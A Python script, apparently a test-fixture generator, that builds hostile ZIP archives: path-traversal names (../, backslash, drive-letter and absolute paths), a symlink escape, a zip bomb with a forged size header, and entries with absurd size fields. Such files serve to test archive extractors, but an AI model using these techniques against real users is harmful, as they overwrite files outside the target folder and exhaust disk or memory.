#!/usr/bin/env python3
"""Writes archives that try to harm whoever extracts them.

  hostile_zip.py traversal OUTPUT ABSOLUTE_NAME
      entries named to climb out of the target folder ("../", "..\\",
      "sub/../../", a drive letter, an absolute name ABSOLUTE_NAME), a
      symbolic link entry followed by an entry through it, and one harmless
      entry "ok/fine.txt".
  hostile_zip.py bomb OUTPUT
      "bomb.bin" declares 1000 bytes and inflates to 64 MiB; "after.txt"
      follows it.
  hostile_zip.py absurd OUTPUT
      "huge.bin" declares 4 GiB - 2 bytes over a few bytes of data,
      "endless.bin" a compressed size far past the archive's end.
"""
import struct
import sys
import zlib


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def write(path, entries):
    """entries: dicts with name (bytes), data (as stored), method, crc,
    usize, and optionally csize, attr, system."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        name = e["name"]
        csize = e.get("csize", len(e["data"]))
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, e["method"], 0,
                           0x5A21, e["crc"], csize, e["usize"], len(name), 0)
        out += name + e["data"]
        system = e.get("system", 0)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50,
                               (system << 8) | 20, 20, 0, e["method"], 0,
                               0x5A21, e["crc"], csize, e["usize"], len(name),
                               0, 0, 0, 0, e.get("attr", 0), offset)
        central += name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries),
                      len(entries), len(central), len(out), 0)
    with open(path, "wb") as f:
        f.write(out + central + end)


def stored(name, data, **extra):
    entry = dict(name=name, data=data, method=0, crc=zlib.crc32(data),
                 usize=len(data))
    entry.update(extra)
    return entry


def main():
    kind, path = sys.argv[1], sys.argv[2]
    if kind == "traversal":
        absolute = sys.argv[3].encode()
        link_mode = (0o120777 << 16)
        write(path, [
            stored(b"../up-one.txt", b"escaped"),
            stored(b"../../up-two.txt", b"escaped"),
            stored(b"..\\back-up.txt", b"escaped"),
            stored(b"sub/../../sub-up.txt", b"escaped"),
            stored(b"sub\\..\\..\\back-sub-up.txt", b"escaped"),
            stored(absolute, b"absolute"),
            stored(b"C:\\drive.txt", b"drive"),
            stored(b"C:/drive-slash.txt", b"drive"),
            stored(b"link", b"..", attr=link_mode, system=3),
            stored(b"link/through-link.txt", b"escaped"),
            stored(b"ok/fine.txt", b"fine"),
        ])
    elif kind == "bomb":
        zeros = bytes(64 << 20)
        write(path, [
            dict(name=b"bomb.bin", data=deflate(zeros), method=8,
                 crc=zlib.crc32(zeros[:1000]), usize=1000),
            stored(b"after.txt", b"after the bomb"),
        ])
    elif kind == "absurd":
        data = b"a few bytes"
        write(path, [
            dict(name=b"huge.bin", data=deflate(data), method=8,
                 crc=zlib.crc32(data), usize=0xFFFFFFFE),
            dict(name=b"endless.bin", data=deflate(data), method=8,
                 crc=zlib.crc32(data), usize=len(data), csize=0xFFFFFF00),
            stored(b"fine.txt", b"fine"),
        ])
    else:
        sys.exit("unknown kind " + kind)


main()
